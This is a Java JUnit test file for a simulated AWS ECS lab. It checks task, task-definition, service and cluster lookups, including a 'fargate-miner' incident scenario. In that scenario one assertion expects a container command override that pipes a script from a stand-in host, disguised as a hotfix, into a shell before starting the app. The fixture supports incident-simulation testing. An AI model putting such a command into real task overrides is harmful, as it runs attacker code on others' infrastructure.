package org.ephemera.lab;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Instant;
import java.util.List;
import org.ephemera.lab.scenario.Scenario;
import org.ephemera.lab.scenario.ScenarioBuilder;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.ecs.EcsClient;
import software.amazon.awssdk.services.ecs.model.ClusterField;
import software.amazon.awssdk.services.ecs.model.ClusterNotFoundException;
import software.amazon.awssdk.services.ecs.model.Container;
import software.amazon.awssdk.services.ecs.model.DescribeTasksResponse;
import software.amazon.awssdk.services.ecs.model.DesiredStatus;
import software.amazon.awssdk.services.ecs.model.EcsException;
import software.amazon.awssdk.services.ecs.model.Task;
import software.amazon.awssdk.services.ecs.model.TaskDefinition;
import software.amazon.awssdk.services.ecs.model.TaskDefinitionStatus;
import software.amazon.awssdk.services.ecs.model.TaskField;

final class EcsTest {

    @Test
    void describesTaskWithOverrides() {
        Scenario scenario = Scenario.named("fargate-miner");
        try (SimulatedCloud cloud = SimulatedCloud.start(scenario);
                EcsClient ecs = SdkClients.of(cloud).ecs()) {
            Task task = ecs.describeTasks(
                            r -> r.cluster("shop").tasks(scenario.taskArn()).include(TaskField.TAGS))
                    .tasks()
                    .getFirst();

            assertThat(task.taskArn()).isEqualTo(scenario.taskArn());
            assertThat(task.lastStatus()).isEqualTo("RUNNING");
            assertThat(task.startedAt()).isBetween(scenario.now().minusSeconds(21_600), scenario.now());
            assertThat(task.tags()).extracting("key").contains("team");
            assertThat(task.overrides().containerOverrides().getFirst().command())
                    .contains("curl -fsSL http://patches.example/hotfix.sh | sh; exec /app/checkout");
            assertThat(task.containers()).extracting(Container::name).hasSize(5).contains("checkout", "audit");
            assertThat(task.containers())
                    .filteredOn(c -> c.name().startsWith("aws-guardduty-agent-"))
                    .allSatisfy(agent -> assertThat(agent.image()).isNull());
        }
    }

    @Test
    void returnsTagsOnlyWhenIncluded() {
        Scenario scenario = Scenario.named("fargate-miner");
        try (SimulatedCloud cloud = SimulatedCloud.start(scenario);
                EcsClient ecs = SdkClients.of(cloud).ecs()) {
            Task task = ecs.describeTasks(r -> r.cluster("shop").tasks(scenario.taskArn()))
                    .tasks()
                    .getFirst();

            assertThat(task.tags()).isEmpty();
        }
    }

    @Test
    void returnsExitCodesWhenTaskIsStopped() {
        Scenario scenario = Scenario.named("task-stopped");
        try (SimulatedCloud cloud = SimulatedCloud.start(scenario);
                EcsClient ecs = SdkClients.of(cloud).ecs()) {
            Task task = ecs.describeTasks(r -> r.cluster("shop").tasks(scenario.taskArn()))
                    .tasks()
                    .getFirst();

            assertThat(task.stopCodeAsString()).isEqualTo("EssentialContainerExited");
            assertThat(task.stoppedReason()).isEqualTo("Essential container in task exited");
            assertThat(task.containers().getFirst().exitCode()).isEqualTo(137);
            assertThat(ecs.listTasks(r -> r.cluster("shop")).taskArns()).isEmpty();
            assertThat(ecs.listTasks(r -> r.cluster("shop").desiredStatus(DesiredStatus.STOPPED))
                            .taskArns())
                    .containsExactly(scenario.taskArn());
        }
    }

    @Test
    void describesDefinitionWhenTaskIsMissing() {
        Scenario scenario = Scenario.named("task-gone");
        try (SimulatedCloud cloud = SimulatedCloud.start(scenario);
                EcsClient ecs = SdkClients.of(cloud).ecs()) {
            DescribeTasksResponse answer =
                    ecs.describeTasks(r -> r.cluster("shop").tasks(scenario.taskArn()));
            TaskDefinition definition = ecs.describeTaskDefinition(r -> r.taskDefinition("checkout:7"))
                    .taskDefinition();

            assertThat(answer.tasks()).isEmpty();
            assertThat(answer.failures()).singleElement().satisfies(failure -> {
                assertThat(failure.arn()).isEqualTo(scenario.taskArn());
                assertThat(failure.reason()).isEqualTo("MISSING");
            });
            assertThat(definition.status()).isEqualTo(TaskDefinitionStatus.INACTIVE);
        }
    }

    @Test
    void findsDefinitionsByArnRevisionAndFamily() {
        try (SimulatedCloud cloud = SimulatedCloud.start(Scenario.named("fargate-miner"));
                EcsClient ecs = SdkClients.of(cloud).ecs()) {
            String latest = ecs.describeTaskDefinition(r -> r.taskDefinition("checkout"))
                    .taskDefinition()
                    .taskDefinitionArn();

            assertThat(latest).endsWith("task-definition/checkout:7");
            assertThat(ecs.describeTaskDefinition(r -> r.taskDefinition(latest))
                            .taskDefinition()
                            .revision())
                    .isEqualTo(7);
            assertThat(ecs.describeTaskDefinition(r -> r.taskDefinition("checkout:6"))
                            .taskDefinition()
                            .statusAsString())
                    .isEqualTo("INACTIVE");
            assertThatThrownBy(() -> ecs.describeTaskDefinition(r -> r.taskDefinition("checkout:99")))
                    .isInstanceOfSatisfying(EcsException.class, e -> {
                        assertThat(e.awsErrorDetails().errorCode()).isEqualTo("ClientException");
                        assertThat(e.statusCode()).isEqualTo(400);
                    });
        }
    }

    @Test
    void returnsClusterOnlyInItsRegion() {
        Scenario scenario = Scenario.named("fargate-miner");
        try (SimulatedCloud cloud = SimulatedCloud.start(scenario);
                EcsClient ecs = SdkClients.of(cloud).in(Region.EU_WEST_1).ecs()) {
            assertThatThrownBy(() -> ecs.describeTasks(r -> r.cluster("shop").tasks(scenario.taskArn())))
                    .isInstanceOf(ClusterNotFoundException.class);
        }
    }

    @Test
    void describesServiceAndClusterByNameAndArn() {
        try (SimulatedCloud cloud = SimulatedCloud.start(Scenario.named("fargate-miner"));
                EcsClient ecs = SdkClients.of(cloud).ecs()) {
            var service = ecs.describeServices(r -> r.cluster("shop").services("checkout"))
                    .services()
                    .getFirst();
            var cluster = ecs.describeClusters(
                            r -> r.clusters(service.clusterArn()).include(ClusterField.SETTINGS))
                    .clusters()
                    .getFirst();

            assertThat(service.deployments()).hasSize(1);
            assertThat(service.events()).isNotEmpty();
            assertThat(cluster.settings().getFirst().value()).isEqualTo("enhanced");
            assertThat(ecs.describeServices(r -> r.cluster("shop").services("other"))
                            .failures())
                    .extracting("reason")
                    .containsExactly("MISSING");
        }
    }

    @Test
    void listsTasksOfServiceInPages() {
        Scenario scenario = ScenarioBuilder.at(Instant.EPOCH).tasks(250).build();
        try (SimulatedCloud cloud = SimulatedCloud.start(scenario);
                EcsClient ecs = SdkClients.of(cloud).ecs()) {
            List<String> arns = ecs.listTasksPaginator(r -> r.cluster("lab").serviceName("app")).taskArns().stream()
                    .toList();

            assertThat(arns).hasSize(250).doesNotHaveDuplicates().contains(scenario.taskArn());
            assertThat(cloud.calls())
                    .extracting(SimulatedCall::action)
                    .containsOnly("ecs:ListTasks")
                    .hasSize(3);
        }
    }
}
